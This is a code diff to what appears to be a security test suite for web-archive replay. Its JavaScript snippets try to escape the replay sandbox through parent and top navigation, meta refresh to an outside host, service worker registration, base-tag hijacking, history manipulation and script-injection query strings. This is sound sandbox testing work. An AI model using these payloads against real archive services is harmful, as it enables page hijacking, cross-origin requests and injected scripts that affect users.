@@ -3,7 +3,8 @@
 Each attack is the body of an asynchronous function. It runs in a window without any rewriting: `raw` is that window, `page`
 the true window of the replayed page around it, `page.parent` the page that starts the replay, and `page.top` the page
 of the archive. `A`, `B` and `C` are origins: the archive, the replay, the API of a crawl. `AWAY` is a host elsewhere.
-`attempt` runs a step and goes on whatever happens; `got` reports a success; `add` makes an element without rewriting.
+`attempt` runs a step and goes on whatever happens; `got` reports a success; `add` makes an element without rewriting;
+`done` is called before a step that may end the window itself.
 """
 
 import base64
@@ -17,7 +18,7 @@ LIBRARY = """(async () => {
   try {
     const page = (() => {}).constructor("ret" + "urn glob" + "alThis")();
     const kind = { headers: { "content-type": "text/html" } };
-    const blob = await new Response("<!doctype html><title>raw</title><body>raw</body>", kind).blob();
+    const blob = await new Response("<!doctype html><title>raw</title><base href='@B@/'><body>raw</body>", kind).blob();
     // ReplayWeb.page rewrites what a replayed page calls, and not what the page around it has.
     let around = page;
     try { around = page.parent.document ? page.parent : page; } catch (error) { }
@@ -54,12 +55,17 @@ LIBRARY = """(async () => {
       made.onload = () => resolve("loaded");
       made.onerror = () => resolve("failed");
     });
+    // Browsers allow more after a person has clicked on a page: this one is clicked on all the time.
+    tell("waits", "");
+    for (let turn = 0; turn < 100 && !page.navigator.userActivation.hasBeenActive; turn++) await wait(50);
+    tell(page.navigator.userActivation.hasBeenActive ? "did" : "not", "it was clicked on");
     tell("began", is_raw ? "raw" : "rewritten");
-    const given = { page, raw, at, wait, got, attempt, add, loads, A: "@A@", B: "@B@", C: "@C@", AWAY: "@AWAY@",
+    const done = () => tell("ran", "");
+    const given = { done, page, raw, at, wait, got, attempt, add, loads, A: "@A@", B: "@B@", C: "@C@", AWAY: "@AWAY@",
                     SITE: "@SITE@", REBOUND: "@REBOUND@", MARK: "@SITE@/marker-" + document.body.id };
     const run = new raw.Function(...Object.keys(given), "return (async () => {" + code + "\\n})()");
     await run(...Object.values(given));
-    tell("ran", "");
+    done();
   } catch (error) {
     tell("broke", error.name + " " + error.message);
   }
@@ -102,12 +108,13 @@ def form(target):
 const form = add("form", { action: C + "/api/v1/urls", method: "post", enctype: "text/plain", target: "%s" });
 const input = raw.document.createElement("input");
 input.name = MARK + "?form"; form.append(input);
+if ("%s" === "_self" || "%s" === "_parent") done();
 await attempt("form", () => { form.submit(); return "sent"; });
 await wait(800);
 const other = add("form", { action: "http://" + AWAY + "/form", target: "%s" }, page.document.body);
 await attempt("form elsewhere", () => { raw.HTMLFormElement.prototype.submit.call(other); return "sent"; });
 await wait(500);
-""" % (target, target)
+""" % (target, target, target, target)
 
 
 ATTACKS = {
@@ -198,16 +205,20 @@ for (const url of [C + "/api/v1/stats", B + "/", "http://" + AWAY + "/top", "abo
 await wait(500);
 """,
     "parent-location": """
+done();
 await attempt("leave", async () => { raw.setTimeout(() => {}, 0); page.parent.location = C + "/api/v1/stats"; return "asked"; });
 await wait(1000);
 await attempt("leave for elsewhere", async () => { page.parent.location = "http://" + AWAY + "/parent"; return "asked"; });
 await wait(1000);
 """,
     "parent-to-archive": """
+done();
 await attempt("leave", async () => { page.parent.location = A + "/web/" + at + "id_/" + SITE + "/victim"; return "asked"; });
 await wait(1000);
 """,
     "own-location": """
+done();
+page.setTimeout(() => { page.location = C + "/api/v1/stats"; }, 700);
 raw.location = C + "/api/v1/stats";
 await wait(1000);
 await attempt("page", async () => { page.location = C + "/api/v1/stats"; return "asked"; });
@@ -252,6 +263,9 @@ for (const target of ["_blank", "_top", "_parent", "other"])
 await wait(1000);
 """,
     "meta-refresh": """
+done();
+page.setTimeout(() => page.document.head.append(Object.assign(raw.document.createElement("meta"),
+  { httpEquiv: "refresh", content: "0;url=http://" + AWAY + "/refresh" })), 500);
 add("meta", { "http-equiv": "refresh", content: "0;url=" + C + "/api/v1/stats" }, raw.document.head);
 await wait(1000);
 await attempt("page", async () => { page.document.head.append(Object.assign(raw.document.createElement("meta"),
@@ -265,7 +279,7 @@ for (const [url, scope] of [[evil, "/"], [evil, "/web/"], [evil, undefined], [bl
     ["/replay.js", "/"], ["/replay.js", "/web/"], ["/replay/sw.js", "/"], ["/replay/w/archive/" + at + "sw_/" + SITE + "/evil.js", "/replay/"],
     ["/replay/w/archive/" + at + "id_/" + SITE + "/evil.js", undefined], [A + evil, "/"], [C + "/api/v1/stats", "/"], ["/", "/"],
     ["/?url=x", "/"], ["/web/cdx?url=*", "/web/"], ["/web/timemap/link/" + SITE + "/evil.js", "/web/"]])
-  for (const window of [raw, page.parent])
+  for (const window of [raw, page, page.parent])
     await attempt(url + " for " + scope, () => window.navigator.serviceWorker.register(url, { scope, updateViaCache: "all" })
       .then((made) => { got(made.scope); return made.scope; }));
 """,
@@ -385,7 +399,8 @@ for (const src of [blob, "/replay/w/archive/" + at + "mp_/" + SITE + "/evil.zip"
 await wait(500);
 """,
     "base": """
-for (const document of [raw.document, page.document]) {
+for (const document of [page.document, raw.document]) {
+  if (document === raw.document) done();
   const base = raw.document.createElement("base");
   base.href = C + "/";
   document.head.append(base);
@@ -419,6 +434,7 @@ await wait(800);
 await attempt("name", async () => { page.name = page.parent.name = "_top"; page.top.name = "evil"; return "set"; });
 await attempt("push", async () => { page.parent.history.pushState({}, "", "/web/evil"); return page.parent.location.href; });
 await attempt("top", async () => { page.top.history.back(); got("history"); });
+done();
 for (const window of [page.parent, page, raw])
   await attempt("back", async () => { window.history.go(-2); window.history.go(-3); window.history.go(-4); return "asked"; });
 await wait(1500);
@@ -462,6 +478,7 @@ for (const rel of ["prefetch", "preload", "modulepreload", "icon", "prerender"])
   await attempt(rel, async () => { add("link", { rel, href: away + "/" + rel, as: "script" }, raw.document.head); return "set"; });
 add("script", { type: "speculationrules" }, raw.document.head).textContent = JSON.stringify({ prefetch: [{ urls: [away + "/rules"], eagerness: "immediate" }] });
 await attempt("font", () => new raw.FontFace("evil", "url(" + away + "/font)").load());
+done();
 await attempt("location", async () => { raw.location = away + "/location"; return "asked"; });
 await wait(1000);
 """,
@@ -486,6 +503,7 @@ for (const query of ["?url=javascript:alert(1)&at=", "?url=" + encodeURIComponen
                      "?url=x&at=" + encodeURIComponent("../../../../none?"), "?url=" + encodeURIComponent('"><script src=/web/' + at + "id_/" + SITE + "/evil.js></script>") + "&at=1"]) {
   await attempt("frame " + query, () => loads(add("iframe", { src: "/" + query })));
 }
+done();
 await attempt("parent", async () => { page.parent.location = "/?at=1&url=" + encodeURIComponent('"><script src=/web/' + at + "id_/" + SITE + "/evil.js></script>"); return "asked"; });
 await wait(1500);
 """,
